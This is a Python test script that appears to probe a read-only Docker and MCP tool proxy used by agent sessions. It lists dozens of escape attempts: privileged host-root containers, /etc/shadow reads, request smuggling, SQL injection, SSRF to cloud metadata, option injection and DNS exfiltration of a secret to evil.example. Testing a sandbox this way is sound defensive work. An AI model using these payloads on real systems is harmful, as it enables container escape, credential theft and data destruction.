"""Run inside a session in the place of the CLI: tries to see and to do more than it may, through what only looks.

Standard library only. Reads looking.json from its own folder and prints one JSON line per way:
{"name", "reached", "detail"}. `reached` is true where a secret came out, or where an answer looks like success.
"""

# pyright: basic
# A payload, not a part of the product: short and blunt.
# ruff: noqa: ANN002, ANN003, PTH100, PTH118, PTH120, PTH123, SIM115

import json
import os
import socket

HERE = os.path.dirname(os.path.abspath(__file__))
T = json.load(open(os.path.join(HERE, "looking.json")))
WAYS = []


def raw(data, wait=4.0):
    with socket.create_connection(("127.0.0.1", 9000), wait) as s:
        s.settimeout(wait)
        out = b""
        try:
            s.sendall(data)
            while len(out) < 1 << 21 and (part := s.recv(65536)):
                out += part
        except OSError:
            pass
        return out


def status(answer):
    head = answer.split(b"\r\n", 1)[0].split(b" ")
    return int(head[1]) if len(head) > 1 and head[1].isdigit() else 0


def leaked(answer):
    return next((s for s in T["secrets"] if s.encode() in answer), "")


def http(method, path, body=b"", *headers):
    lines = [f"{method} {path} HTTP/1.1", "Host: door", "Connection: close", *headers]
    lines += [f"Content-Length: {len(body)}"] if body else []
    return raw("\r\n".join(lines).encode() + b"\r\n\r\n" + body)


def docker(name, method, path, body=b"", *headers):
    def run():
        answer = http(method, "/docker" + path, body, *headers)
        hit = leaked(answer)
        return bool(hit) or status(answer) < 300, hit or f"{status(answer)} {answer[-90:]!r}"

    WAYS.append((f"docker: {name}", run))


def bytes_of(name, data):
    def run():
        answer = raw(data)
        good = b"HTTP/1.1 2" in answer or b"HTTP/1.1 101" in answer
        return good or bool(leaked(answer)), leaked(answer) or f"{status(answer)}"

    WAYS.append((f"docker: {name}", run))


def tool(name, what, /, **arguments):
    def run():
        params = {"name": what, "arguments": arguments}
        body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": params}).encode()
        answer = http("POST", "/mcp", body, "Content-Type: application/json")
        told = json.loads(answer.split(b"\r\n\r\n", 1)[1] or b"{}").get("result", {})
        text = (told.get("content") or [{}])[0].get("text", "")
        return bool(leaked(answer)) or told.get("isError") is False, leaked(answer) or text[:90]

    WAYS.append((f"{what}: {name}", run))


OTHER, OTHER_ID, SHOP, PORT = T["stranger"], T["stranger_id"], T["shop"], T["port"]
CREATE = json.dumps(
    {"Image": T["image"], "Cmd": ["id"], "HostConfig": {"Binds": ["/:/host"], "Privileged": True}}
).encode()
JSON = "Content-Type: application/json"

for spelling, called in (
    ("name", OTHER),
    ("id", OTHER_ID),
    ("short id", OTHER_ID[:12]),
    ("prefix", OTHER_ID[:4]),
    ("session", T["own"]),
):
    docker(f"environment of another container by {spelling}", "GET", f"/v1.41/containers/{called}/json")
docker("logs of another container", "GET", f"/v1.41/containers/{OTHER}/logs?stdout=1&stderr=1")
docker("processes of another container", "GET", f"/v1.41/containers/{OTHER_ID}/top")
docker("environment by the columns of ps", "GET", f"/v1.41/containers/{SHOP}/top?ps_args=auxe")
docker("logs by a path that climbs", "GET", f"/v1.41/containers/{SHOP}/../{OTHER}/logs?stdout=1")
docker("logs by an escaped path that climbs", "GET", f"/v1.41/containers/{SHOP}%2f..%2f{OTHER}/logs?stdout=1")
docker("two slashes", "GET", f"/v1.41//containers/{OTHER}/json")
docker("a semicolon", "GET", f"/v1.41/containers/{OTHER};x/json")
docker("a list by filter of labels", "GET", "/v1.41/containers/json?filters=%7B%22volume%22%3A%5B%22x%22%5D%7D")
docker("any file of a declared container", "GET", f"/v1.41/containers/{SHOP}/archive?path=/etc/shadow")
docker("any file, by HEAD", "HEAD", f"/v1.41/containers/{SHOP}/archive?path=/etc/shadow")
docker("a file into a container", "PUT", f"/v1.41/containers/{SHOP}/archive?path=/tmp", b"x" * 512)
docker("its whole file system", "GET", f"/v1.41/containers/{SHOP}/export")
docker("an image as a file", "GET", f"/v1.41/images/{T['image']}/get")
docker("exec", "POST", f"/v1.41/containers/{SHOP}/exec", b'{"Cmd":["id"]}', JSON)
docker("exec by another method's header", "GET", f"/v1.41/containers/{SHOP}/exec", b"", "X-HTTP-Method-Override: POST")
docker("attach", "POST", f"/v1.41/containers/{SHOP}/attach?stream=1&stdin=1")
docker(
    "attach by websocket",
    "GET",
    f"/v1.41/containers/{SHOP}/attach/ws?stream=1",
    b"",
    "Connection: Upgrade",
    "Upgrade: websocket",
)
docker("a container with the host's root", "POST", f"/v1.41/containers/create?name={T['made']}", CREATE, JSON)
docker(
    "a volume that is the host's root",
    "POST",
    "/v1.41/volumes/create",
    b'{"Name":"x","DriverOpts":{"type":"none","o":"bind","device":"/"}}',
    JSON,
)
docker("a restart", "POST", f"/v1.41/containers/{SHOP}/restart")
docker("a kill in small letters", "post", f"/v1.41/containers/{SHOP}/kill")
docker("a removal", "DELETE", f"/v1.41/containers/{SHOP}?force=1")
docker("secrets of a swarm", "GET", "/v1.41/secrets")
docker("the engine itself", "GET", "/v1.41/info")
docker(
    "another protocol",
    "GET",
    "/v1.41/containers/json",
    b"",
    "Connection: Upgrade, HTTP2-Settings",
    "Upgrade: h2c",
    "HTTP2-Settings: AAMAAABkAAQAAP__",
)
bytes_of(
    "a request within a request",
    f"GET /docker/containers/json HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    f"POST /docker/containers/{SHOP}/kill HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n".encode(),
)
bytes_of("an absolute address", f"GET http://docker/containers/{OTHER}/json HTTP/1.1\r\nHost: docker\r\n\r\n".encode())
bytes_of("a tunnel to the engine", b"CONNECT docker:2375 HTTP/1.1\r\nHost: docker\r\n\r\n")

tool("another container", "container_state", service=OTHER)
tool("another container by id", "container_logs", service=OTHER_ID)
tool("a session's container", "container_state", service="local/own")
for text in (
    "COPY orders TO PROGRAM 'touch /tmp/tiercel-redteam'", "SELECT pg_read_file('/etc/passwd')", "SELECT 1; DROP TABLE orders",
    "SELECT 1) AS x; DROP TABLE orders; SELECT (1", "SET ROLE look_boss", "SELECT set_config('role', 'postgres', false)",
    "SELECT * FROM dblink('dbname=postgres', 'SELECT 1') AS t(x int)", "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
    "SELECT secret FROM hidden", "SELECT rolpassword FROM pg_authid",
):  # fmt: skip
    tool(text[:40], "sql_read", service="local/shop-db", query=text)
for url in (
    f"http://127.0.0.1:{PORT}/admin/restart", f"http://127.0.0.1:{T['other_port']}/", f"http://2130706433:{PORT}/", f"http://0x7f.1:{PORT}/",
    f"http://[::ffff:127.0.0.1]:{PORT}/", f"http://localhost:{PORT}/", f"http://0.0.0.0:{PORT}/", f"http://127.0.0.1:{PORT}@127.0.0.1:{T['other_port']}/",
    f"http://127.0.0.1:{PORT}/..;/admin", f"http://127.0.0.1:{PORT}/%2e%2e/admin", "http://169.254.169.254/latest/meta-data/",
    "http://[fd00:ec2::254]/latest/meta-data/", "http://metadata.google.internal/", "http://meta.declared.test/", "file:///etc/passwd",
):  # fmt: skip
    tool(url[:50], "http_get", url=url)
tool("metadata by certificate", "tls_certificate", host="169.254.169.254", port=443)
tool("another port of a declared host", "tls_certificate", host="127.0.0.1", port=T["other_port"])
tool("data in a name", "dns_lookup", name=f"{T['secrets'][0][:8]}.evil.example")
for hostile in ("local/hostile-unit", "--file=/etc/shadow", "-H root@evil"):
    tool(f"options by {hostile}", "journal", service=hostile)
    tool(f"options by {hostile}", "unit_status", service=hostile)
tool("an option as a number", "journal", service="local/hostile-unit", lines="1 --directory=/")
tool("a file of the host by a compose reference", "compose_config", service="local/climber")
tool("a file of another repository", "compose_config", service="local/neighbour")
tool("arguments that are not there", "disk_usage", path="/root")
tool("environments of programs", "processes", by="environ")

# What may be seen is seen: a wall that answers nothing at all would hold everything.
docker("CONTROL state of a declared container", "GET", f"/v1.41/containers/{SHOP}/json")
tool("CONTROL a row that may be read", "sql_read", service="local/shop-db", query="SELECT id FROM orders")

for number, (name, run) in enumerate(WAYS):
    try:
        reached, detail = run()
    except Exception as e:  # noqa: BLE001 - a way that breaks did not lead anywhere
        reached, detail = False, f"{type(e).__name__}: {e}"
    print(json.dumps({"name": f"{number:02d} {name}", "reached": bool(reached), "detail": detail[:120]}), flush=True)
print(json.dumps({"done": len(WAYS)}), flush=True)
